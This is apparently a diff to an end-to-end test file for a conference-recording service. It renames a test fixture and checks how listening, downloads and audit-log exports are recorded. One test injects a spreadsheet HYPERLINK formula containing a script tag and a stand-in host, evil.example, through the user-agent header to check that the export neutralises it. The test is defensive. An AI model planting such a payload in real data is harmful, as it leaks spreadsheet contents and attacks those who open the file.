@@ -20,10 +20,10 @@ async function heldRecording({ recordings }: { recordings: { recordingId: string
 }
 
 test('playing is a listening, however many parts are asked for; HEAD and a probe are none', async ({
-  holdConference,
+  runConference,
   request,
 }) => {
-  const conference = await holdConference({ durationSec: 5 })
+  const conference = await runConference({ durationSec: 5 })
   const { recordingId, address } = await heldRecording(conference)
   await request.head(`${address}/audio`)
   await request.get(`${address}/audio`, { headers: { range: 'bytes=0-0' } })
@@ -50,10 +50,10 @@ test('what is refused is no listening', async ({ request }) => {
 })
 
 test('a download is one event with the parts that follow it; a part that follows none is one as well', async ({
-  holdConference,
+  runConference,
   request,
 }) => {
-  const conference = await holdConference({ durationSec: 5 })
+  const conference = await runConference({ durationSec: 5 })
   const { recordingId, address } = await heldRecording(conference)
   const download = (range?: string) =>
     request.get(`${address}/audio?download=1`, { headers: range === undefined ? {} : { range } })
@@ -72,10 +72,10 @@ test('a download is one event with the parts that follow it; a part that follows
 })
 
 test('opening a conference is an event; what the router asks for ahead is neither event nor page', async ({
-  holdConference,
+  runConference,
   request,
 }) => {
-  const { conferenceId } = await holdConference()
+  const { conferenceId } = await runConference()
   const ahead = await request.get(`/conferences/${conferenceId}`, {
     headers: { rsc: '1', 'next-router-prefetch': '1' },
   })
@@ -107,8 +107,8 @@ test('an export is noted with its filter, and no whole phone number', async ({ r
 })
 
 test.describe('what a player reports', () => {
-  test('adds up', async ({ holdConference, request }) => {
-    const { recordingId, address } = await heldRecording(await holdConference())
+  test('adds up', async ({ runConference, request }) => {
+    const { recordingId, address } = await heldRecording(await runConference())
     for (const heardSec of [12, 3]) {
       const answer = await request.post(`${address}/listening`, { data: { heardSec } })
       expect(answer.status()).toBe(204)
@@ -128,8 +128,8 @@ test.describe('what a player reports', () => {
     ['not JSON', 400],
     [`{"heardSec": 5, "x": "${'x'.repeat(1_000)}"}`, 413],
   ] as const) {
-    test(`is refused with ${status}: ${body.slice(0, 20)}`, async ({ holdConference, request }) => {
-      const { recordingId, address } = await heldRecording(await holdConference())
+    test(`is refused with ${status}: ${body.slice(0, 20)}`, async ({ runConference, request }) => {
+      const { recordingId, address } = await heldRecording(await runConference())
       const answer = await request.post(`${address}/listening`, { data: Buffer.from(body) })
       expect(answer.status()).toBe(status)
       expect((await answer.json()).error).toMatch(/\.$/)
@@ -146,10 +146,10 @@ test.describe('what a player reports', () => {
 })
 
 test('an export of the audit log is noted, and neutralises what a caller put in', async ({
-  holdConference,
+  runConference,
   request,
 }) => {
-  const { conferenceId } = await holdConference()
+  const { conferenceId } = await runConference()
   const userAgent = '=HYPERLINK("http://evil.example/?"&A1,"<script>alert(1)</script>")'
   await request.get(`/conferences/${conferenceId}`, { headers: { 'user-agent': userAgent } })
   const answer = await request.get(`/api/audit-log/export?target=${conferenceId}`)
